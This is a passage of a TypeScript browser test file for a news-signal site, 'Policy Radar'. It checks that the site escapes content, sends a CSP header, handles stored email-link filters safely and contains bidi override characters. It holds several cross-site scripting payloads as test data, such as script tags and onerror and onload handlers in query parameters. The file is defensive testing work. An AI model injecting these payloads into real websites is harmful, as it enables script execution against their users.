  const reflected = [`"><script>${loud(1001)}</script>`, `<img src=x onerror=${loud(1002)}>`, `javascript:${loud(1003)}`, `'><svg onload=${loud(1004)}>`];
  const enc = encodeURIComponent;
  return [
    '/', '/?sort=recent', '/?q=fines', '/?q=pwned', '/?q=script%20OR%20onerror', '/?source=hostile-rss', '/?source=hostile-html', '/?source=hostile-atom',
    ...signals.map((s) => `/signals/${s.id}`),
    ...slugs.map((slug) => `/entities/${enc(slug)}`),
    '/sources', '/track-record', `/track-record?playbook=${enc(reflected[0]!)}`,
    `/?q=${enc(reflected[0]!)}`, `/?q=${enc(`type:${reflected[1]}`)}`, `/?entity=${enc(reflected[1]!)}&region=${enc(reflected[2]!)}`,
    `/?since=${enc(reflected[3]!)}`, `/?cursor=${enc(reflected[0]!)}`,
    `/subscribe?q=${enc(reflected[0]!)}&entity=${enc(reflected[1]!)}&region=${enc(reflected[3]!)}&type=${enc(reflected[2]!)}`,
    `/signals/${enc(reflected[0]!)}`, `/entities/${enc(reflected[1]!)}`, `/${enc(reflected[3]!)}`,
  ];
}

test('every page, with the CSP bypassed: no script runs, nothing loads from elsewhere, titles show as text', { skip: noBrowser }, async (t) => {
  const context = await browser!.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const trap = watch(page);
  const paths = pagePaths();
  t.diagnostic(`${paths.length} pages, ${signals.length} signals`);
  for (const path of paths) {
    const res = await page.goto(base + path);
    assert.ok(res && res.status() < 500, `${path}: ${res?.status()}`);
    await settle(page);
    assert.deepEqual(await auditDom(page), [], `${path}: elements or attributes from content`);
    await trap.assertClean(path);
    // Titles are text: what the reader sees is exactly what the publisher wrote, markup and all.
    const s = signals.find((x) => path === `/signals/${x.id}`);
    if (s) {
      assert.equal(await page.locator('h1').textContent(), s.headline, `h1 of ${path}`);
      assert.equal(await page.title(), `${s.headline} · Policy Radar`);
      assert.deepEqual(await page.locator('ol.stories > li > :first-child').allTextContents(), s.stories.map((st) => st.title), `story titles of ${path}`);
    }
  }
  await page.goto(`${base}/?sort=recent`);
  const cards = await page.locator('article.sig h3').allTextContents();
  for (const s of signals.slice(0, 20)) assert.ok(cards.includes(s.headline), `card for ${s.headline}`);
  await page.goto(`${base}/sources`);
  const names = await page.locator('table.sources tbody th > :first-child').allTextContents();
  assert.ok(names.includes(hostileSourceName), `the source name as text: ${names.join(' | ')}`);
  const reflected = `"><script>${loud(1001)}</script>`;
  await page.goto(`${base}/?q=${encodeURIComponent(reflected)}`);
  assert.equal(await page.inputValue('#q'), reflected, 'the search box holds the query as typed');
  await trap.assertClean('text checks');
  await context.close();
});

test('as served: every page carries the CSP, and under it no content even tries to run', async () => {
  for (const path of pagePaths()) {
    const res = await fetch(base + path);
    assert.ok(res.status < 500, `${path}: ${res.status}`);
    assert.equal(res.headers.get('content-security-policy'), contentSecurityPolicy, `${path}: CSP header`);
    assert.equal(res.headers.get('x-content-type-options'), 'nosniff');
    await res.arrayBuffer();
  }
  if (!browser) return;
  // In the browser with the CSP on, a sample of the pages: a refused inline script or style
  // would show up as a CSP message, and would mean content reached the DOM as markup.
  const context = await browser.newContext();
  const page = await context.newPage();
  const trap = watch(page);
  const paths = pagePaths();
  for (const path of [...paths.filter((p) => !/^\/(signals|entities)\/\d*[a-z-]*$/.test(p)), ...paths.filter((p) => p.startsWith('/signals/')).slice(0, 4)]) {
    await page.goto(base + path);
    await settle(page);
    await trap.assertClean(path);
  }
  await context.close();
});

test('the pages behind email links escape stored filters and run nothing', { skip: noBrowser }, async () => {
  const now = new Date().toISOString();
  const filters = JSON.stringify({ q: `"><script>${loud(1100)}</script>`, entities: [`'><img src=x onerror=${loud(1101)}>`], regions: ['EU'] });
  const sub = requestSubscription(ctx.db, 'filters@example.org', { cadence: 'weekly', filters, send_hour: 7, timezone: 'UTC' }, 'n2', new Date(Date.now() + 86_400_000).toISOString(), now)!;
  assert.ok(confirmSubscription(ctx.db, sub.id, 'n2', now));
  const context = await browser!.newContext({ bypassCSP: true });
  const page = await context.newPage();
  const trap = watch(page);
  for (const link of [manageLink(ctx.db, base, sub.id), unsubscribeLink(ctx.db, base, sub.id)]) {
    const res = await page.goto(link);
    assert.equal(res?.status(), 200);
    assert.match(res?.headers()['content-security-policy'] ?? '', /default-src 'none'/);
    await settle(page);
    assert.deepEqual(await auditDom(page), []);
    await trap.assertClean(link);
  }
  await page.goto(manageLink(ctx.db, base, sub.id));
  assert.equal(await page.inputValue('input[name="q"]'), `"><script>${loud(1100)}</script>`);
  assert.equal(await page.inputValue('input[name="entities"]'), `'><img src=x onerror=${loud(1101)}>`);
  await context.close();
});

test('bidi controls in a title or a source name stay inside it: the text after them still reads left to right', { skip: noBrowser }, async () => {
  const s = signals.find((x) => x.stories.some((st) => st.title.includes('\u202E') || st.outlet.includes('\u202E')));
  assert.ok(s, 'a signal with a bidi override');
  const context = await browser!.newContext();
  const page = await context.newPage();
  await page.goto(`${base}/signals/${s.id}`);
  // The meta line after each story title ("outlet · date"): its last word must end to the right
  // of where its first word starts, as in any left-to-right line.
  const order = await readingOrder(page, 'ol.stories > li .meta time');
  assert.ok(order.length >= 1);
  for (const o of order) assert.ok(o.ltr, `"${o.text}" after a title with U+202E renders reversed`);
  await page.goto(`${base}/sources`);
  const ids = await readingOrder(page, 'table.sources tbody th .id');
  for (const o of ids) assert.ok(o.ltr, `"${o.text}" after a source name with U+202E renders reversed`);
  await context.close();
});

/** For each element: whether its text's last letter stands right of its first (left-to-right). */
function readingOrder(page: Page, selector: string): Promise<{ text: string | null; ltr: boolean }[]> {
  return page.evaluate((sel) => Array.from(document.querySelectorAll(sel)).map((t) => {
    const text = t.firstChild!;
    const r = document.createRange();
    r.setStart(text, 0); r.setEnd(text, 1);
    const first = r.getBoundingClientRect().left;
    r.setStart(text, text.textContent!.length - 1); r.setEnd(text, text.textContent!.length);
    return { text: t.textContent, ltr: r.getBoundingClientRect().left > first };
  }), selector);
}
